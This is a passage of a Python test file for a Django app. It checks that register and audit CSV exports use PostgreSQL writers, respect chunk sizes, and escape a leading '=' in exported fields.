        raise AssertionError("the Python writer was used on PostgreSQL")

    monkeypatch.setattr(register_exports, "register_csv_postgres", spy)
    monkeypatch.setattr(register_exports, "register_csv_python", refuse)
    text = "".join(register_csv(Response.objects.all(), today=TODAY))
    assert len(calls) == 1
    assert calls[0]["today"] == TODAY
    assert [step.key for step in calls[0]["steps"]] == [step.key for step in steps]
    assert text == "".join(register_csv_postgres(Response.objects.all(), today=TODAY))
    assert read_csv(text)[0]["inspection"] == "'=Dispatched"


def test_audit_csv_uses_the_postgres_writer(monkeypatch: pytest.MonkeyPatch) -> None:
    """On PostgreSQL `audit_csv` hands the entries to `audit_csv_postgres` (with its own page size unless one is
    given), never to Python."""
    make_response(make_body("Norfolk Police and Crime Commissioner", force="Norfolk"), "=Dispatched")
    calls: list[int] = []

    def spy(entries: AuditEntryQuerySet, *, chunk_size: int) -> Iterator[str]:
        calls.append(chunk_size)
        return audit_csv_postgres(entries, chunk_size=chunk_size)

    def refuse(*args: Any, **kwargs: Any) -> Iterator[str]:
        raise AssertionError("the Python writer was used on PostgreSQL")

    monkeypatch.setattr(audit_exports, "audit_csv_postgres", spy)
    monkeypatch.setattr(audit_exports, "audit_csv_python", refuse)
    text = "".join(audit_csv(AuditEntry.objects.all()))
    assert "".join(audit_csv(AuditEntry.objects.all(), chunk_size=3)) == text
    assert calls == [POSTGRES_CHUNK_SIZE, 3]
    assert text == "".join(audit_csv_postgres(AuditEntry.objects.all()))
    assert "'=Dispatched" in {row["inspection"] for row in read_csv(text)}
